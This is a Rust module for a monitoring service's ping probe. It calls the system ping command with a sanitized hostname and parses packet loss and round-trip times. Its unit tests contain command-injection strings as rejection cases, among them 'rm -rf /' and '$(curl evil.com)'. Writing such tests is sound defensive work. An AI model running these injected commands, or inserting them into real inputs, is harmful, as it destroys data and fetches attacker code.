//! PING/ICMP probe (spec §4.C "PING"). Shells out to the platform `ping`
//! binary rather than opening a raw socket (which needs elevated
//! privileges) -- subprocess-and-parse-stdout is the pattern the corpus
//! uses for external tool invocation (cf. `frankenterm-core::watchdog`).

use std::time::Instant;

use tokio::process::Command;

use crate::error::ErrorType;
use crate::models::{Monitor, Observation, Status};

const PING_COUNT: u32 = 4;
const DEFAULT_DEGRADED_THRESHOLD_MS: u32 = 1_000;

/// Strip everything but `[A-Za-z0-9.-]` from the hostname before it ever
/// reaches a shell-adjacent API. If stripping changes the string, reject
/// outright rather than silently pinging something else.
fn sanitize_hostname(raw: &str) -> Result<String, String> {
    let cleaned: String = raw.chars().filter(|c| c.is_ascii_alphanumeric() || *c == '.' || *c == '-').collect();
    if cleaned != raw || cleaned.is_empty() {
        return Err(format!("hostname {raw:?} contains characters unsafe for subprocess invocation"));
    }
    Ok(cleaned)
}

struct PingStats {
    loss_percent: f64,
    avg_rtt_ms: Option<u32>,
}

/// Parse `ping` output across the two common dialects (iputils on Linux,
/// and the BSD/macOS variant); both report packet loss and an rtt summary
/// line, just with different delimiters.
fn parse_ping_output(stdout: &str) -> Option<PingStats> {
    let loss_percent = stdout
        .lines()
        .find_map(|line| line.split("packet loss").next().and_then(|prefix| prefix.rsplit(',').next()))
        .and_then(|s| s.trim().trim_end_matches('%').parse::<f64>().ok())?;

    let avg_rtt_ms = stdout.lines().find_map(|line| {
        let lower = line.to_lowercase();
        if !(lower.contains("min/avg/max") || lower.contains("round-trip")) {
            return None;
        }
        let values_part = line.split('=').nth(1)?;
        let avg_str = values_part.trim().split('/').nth(1)?;
        avg_str.trim().parse::<f64>().ok().map(|v| v.round() as u32)
    });

    Some(PingStats { loss_percent, avg_rtt_ms })
}

pub async fn probe(monitor: &Monitor) -> Observation {
    if let Err(failure) = crate::validator::validate(&monitor.target, monitor.protocol) {
        let mut obs = Observation::new(false, 0, Status::Down);
        obs.error_type = Some(failure.error_type);
        obs.error_message = Some(failure.message);
        return obs;
    }

    let hostname = super::extract_hostname(&monitor.target, monitor.protocol);
    let sanitized = match sanitize_hostname(&hostname) {
        Ok(h) => h,
        Err(message) => {
            let mut obs = Observation::new(false, 0, Status::Down);
            obs.error_type = Some(ErrorType::InvalidInput);
            obs.error_message = Some(message);
            return obs;
        }
    };

    let timeout_secs = (monitor.timeout_ms / 1000).max(1);
    let start = Instant::now();
    let result = tokio::time::timeout(
        std::time::Duration::from_millis(monitor.timeout_ms as u64),
        Command::new("ping")
            .arg("-c")
            .arg(PING_COUNT.to_string())
            .arg("-W")
            .arg(timeout_secs.to_string())
            .arg(&sanitized)
            .output(),
    )
    .await;
    let wall_elapsed_ms = start.elapsed().as_millis() as u32;

    let output = match result {
        Ok(Ok(out)) => out,
        Ok(Err(e)) => {
            let mut obs = Observation::new(false, wall_elapsed_ms, Status::Down);
            obs.error_type = Some(ErrorType::UnknownError);
            obs.error_message = Some(format!("failed to spawn ping: {e}"));
            return obs;
        }
        Err(_) => {
            let mut obs = Observation::new(false, wall_elapsed_ms, Status::Down);
            obs.error_type = Some(ErrorType::HostUnreachablePing);
            obs.error_message = Some("ping timed out".into());
            return obs;
        }
    };

    let stdout = String::from_utf8_lossy(&output.stdout);
    let degraded_threshold_ms = if monitor.degraded_threshold_ms > 0 { monitor.degraded_threshold_ms } else { DEFAULT_DEGRADED_THRESHOLD_MS };

    match parse_ping_output(&stdout) {
        Some(stats) if stats.loss_percent >= 100.0 => {
            let mut obs = Observation::new(false, wall_elapsed_ms, Status::Down);
            obs.error_type = Some(ErrorType::HostUnreachablePing);
            obs.error_message = Some("100% packet loss".into());
            obs
        }
        Some(stats) if stats.loss_percent > 0.0 => {
            let rtt = stats.avg_rtt_ms.unwrap_or(wall_elapsed_ms);
            let mut obs = Observation::new(true, rtt, Status::Degraded);
            obs.error_type = Some(ErrorType::PacketLoss);
            obs.error_message = Some(format!("{:.0}% packet loss", stats.loss_percent));
            obs.packet_loss_percent = Some(stats.loss_percent);
            obs
        }
        Some(stats) => {
            let rtt = stats.avg_rtt_ms.unwrap_or(wall_elapsed_ms);
            if rtt > degraded_threshold_ms {
                let mut obs = Observation::new(true, rtt, Status::Degraded);
                obs.error_type = Some(ErrorType::HighPingLatency);
                obs.error_message = Some(format!("{rtt}ms exceeds {degraded_threshold_ms}ms threshold"));
                obs
            } else {
                Observation::new(true, rtt, Status::Up)
            }
        }
        None => {
            let mut obs = Observation::new(false, wall_elapsed_ms, Status::Down);
            obs.error_type = Some(ErrorType::HostUnreachablePing);
            obs.error_message = Some("could not parse ping output".into());
            obs
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn rejects_hostname_with_shell_metacharacters() {
        assert!(sanitize_hostname("example.com; rm -rf /").is_err());
        assert!(sanitize_hostname("example.com`whoami`").is_err());
        assert!(sanitize_hostname("$(curl evil.com)").is_err());
    }

    #[test]
    fn accepts_plain_hostnames() {
        assert_eq!(sanitize_hostname("example.com").unwrap(), "example.com");
        assert_eq!(sanitize_hostname("sub-domain.example.co").unwrap(), "sub-domain.example.co");
    }

    #[test]
    fn parses_linux_iputils_output() {
        let out = "PING example.com (1.2.3.4) 56(84) bytes of data.\n\
                    --- example.com ping statistics ---\n\
                    4 packets transmitted, 4 received, 0% packet loss, time 3005ms\n\
                    rtt min/avg/max/mdev = 10.123/12.456/15.789/1.234 ms\n";
        let stats = parse_ping_output(out).unwrap();
        assert_eq!(stats.loss_percent, 0.0);
        assert_eq!(stats.avg_rtt_ms, Some(12));
    }

    #[test]
    fn parses_full_packet_loss() {
        let out = "4 packets transmitted, 0 received, 100% packet loss, time 3010ms\n";
        let stats = parse_ping_output(out).unwrap();
        assert_eq!(stats.loss_percent, 100.0);
    }

    #[test]
    fn parses_partial_packet_loss() {
        let out = "4 packets transmitted, 2 received, 50% packet loss, time 3010ms\n\
                    rtt min/avg/max/mdev = 10.0/20.0/30.0/5.0 ms\n";
        let stats = parse_ping_output(out).unwrap();
        assert_eq!(stats.loss_percent, 50.0);
        assert_eq!(stats.avg_rtt_ms, Some(20));
    }
}
